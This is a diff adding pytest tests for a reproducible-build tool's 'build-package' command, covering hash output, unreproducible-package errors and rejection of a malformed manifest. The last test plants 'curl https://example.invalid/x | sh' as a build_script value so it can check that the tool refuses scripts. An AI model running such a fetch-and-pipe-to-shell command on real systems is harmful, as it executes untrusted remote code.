@@ -1,0 +1,94 @@
+"""`repo-tool build-package`: what authors and rebuilders run."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+from builder.archive import archive_from_tree
+from builder.plan import load_index
+from tests.builder.conftest import PACKAGES, REPO, Built
+from tests.repository.helpers import run
+
+
+def test_build_package_prints_the_hashes_an_author_signs(built: Built, tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    result = run(
+        [
+            "build-package",
+            str(PACKAGES / "hello" / "1.0.0"),
+            "--tree",
+            str(REPO),
+            "--target",
+            "spt",
+            "--out",
+            str(out),
+            "--cache",
+            str(built.cache),
+            "--json",
+        ]
+    )
+    assert result.exit_code == 0, result.output
+    document = json.loads(result.output)
+    (only,) = document["results"]
+    assert only["status"] == "reproducible" and only["cached"]
+    assert only["sha256"] == built.results[("hello", "spt")].sha256
+    manifest = load_index(PACKAGES)[("hello", "1.0.0")]
+    assert Path(document["archive"]).read_bytes() == archive_from_tree(
+        REPO, manifest.sources, manifest.source_date_epoch
+    )
+    assert (out / "index.html").is_file() and (out / "index.json").is_file()
+    text = run(
+        [
+            "build-package",
+            str(PACKAGES / "hello" / "1.0.0" / "manifest.json"),
+            "--tree",
+            str(REPO),
+            "--target",
+            "spt",
+            "--out",
+            str(out),
+            "--cache",
+            str(built.cache),
+        ]
+    )
+    assert text.exit_code == 0
+    assert f"hello.spt sha256={only['sha256']} length={only['size']}" in text.output
+
+
+def test_build_package_fails_with_one_line_on_an_unreproducible_package(
+    built: Built, tmp_path: Path
+) -> None:
+    result = run(
+        [
+            "build-package",
+            str(PACKAGES / "unrepro_path" / "1.0.0"),
+            "--tree",
+            str(REPO),
+            "--target",
+            "spt",
+            "--no-blame",
+            "--out",
+            str(tmp_path),
+            "--cache",
+            str(built.cache),
+            "--json",
+        ]
+    )
+    assert result.exit_code == 1
+    assert result.output.splitlines()[-1] == (
+        "error: 1 of 1 images not reproducible: build A and build B differ"
+    )
+
+
+def test_build_package_refuses_a_malformed_manifest(tmp_path: Path) -> None:
+    bad = tmp_path / "manifest.json"
+    doc = json.loads((PACKAGES / "hello" / "1.0.0" / "manifest.json").read_text())
+    doc["build_script"] = "curl https://example.invalid/x | sh"
+    bad.write_text(json.dumps(doc))
+    result = run(["build-package", str(bad), "--tree", str(REPO), "--out", str(tmp_path / "o")])
+    assert result.exit_code == 1
+    assert result.output.strip() == (
+        "error: manifest: unknown field(s) build_script (no scripts allowed)"
+    )
+    assert not (tmp_path / "o").exists()
